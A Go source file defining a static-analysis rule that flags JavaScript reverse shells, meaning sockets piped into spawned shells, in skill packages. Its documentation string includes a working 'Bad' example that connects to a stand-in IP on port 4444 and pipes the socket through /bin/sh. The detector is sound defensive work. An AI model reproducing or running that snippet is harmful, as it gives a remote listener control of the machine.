package rules

import (
	"github.com/dop251/goja/ast"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/jsfacts"
)

// JSReverseShell reports a shell wired to a network socket in JavaScript.
var JSReverseShell = register(&analyzer.Rule{
	ID:       "SV104",
	Name:     "js-reverse-shell",
	Title:    "JavaScript connects a shell or command runner to a network socket",
	Severity: Critical,
	Category: analyzer.CatRemoteExec,
	Tags:     []string{"security", "CWE-78", "CWE-506"},
	Inputs:   analyzer.InJS,
	Doc: `A JavaScript or TypeScript file opens a socket (` + "`net.connect`" + `, ` + "`new net.Socket`" + `,
` + "`tls.connect`" + `, a WebSocket) and connects it to a process: the socket is piped into a
spawned shell's stdin or the shell's output into the socket, the socket is passed as
the child's stdio, or data received on the socket is run as a command. This is a
reverse shell: whoever listens at the other end controls the machine.

**Fix:** remove it. A skill has no reason to hand a shell to a remote host.

Bad:

` + "```js" + `
const c = net.connect(4444, '203.0.113.5', () => {
  const sh = spawn('/bin/sh');
  c.pipe(sh.stdin); sh.stdout.pipe(c);
});
` + "```" + `

Good: talk to an HTTP API and parse its JSON replies as data.`,
	Run: runJSReverseShell,
})

func jsFromProcess(v *jsfacts.View, e ast.Expression) bool {
	return v.Reaches(e, func(x ast.Expression) bool {
		c, ok := x.(*ast.CallExpression)
		return ok && jsfacts.ChildProcessCall(v.Callee(c)) != ""
	}) != nil
}

func runJSReverseShell(p *analyzer.Pass) error {
	v := jsfacts.Of(p)
	if v == nil {
		return nil
	}
	for _, c := range v.Info.Calls() {
		if err := v.Pass.Context().Err(); err != nil {
			return err
		}
		if fn := jsfacts.ChildProcessCall(v.Callee(c)); fn != "" {
			for _, a := range c.ArgumentList {
				if v.FromSocket(a) {
					v.Report(c, Critical, fn+"() runs commands or binds stdio from a network socket (reverse shell)")
					break
				}
			}
			continue
		}
		dot, ok := c.Callee.(*ast.DotExpression)
		if !ok || dot.Identifier.Name.String() != "pipe" || len(c.ArgumentList) == 0 {
			continue
		}
		from, to := dot.Left, c.ArgumentList[0]
		if v.FromSocket(from) && jsFromProcess(v, to) || jsFromProcess(v, from) && v.FromSocket(to) {
			v.Report(c, Critical, "pipes a network socket and a child process into each other (reverse shell)")
		}
	}
	return nil
}
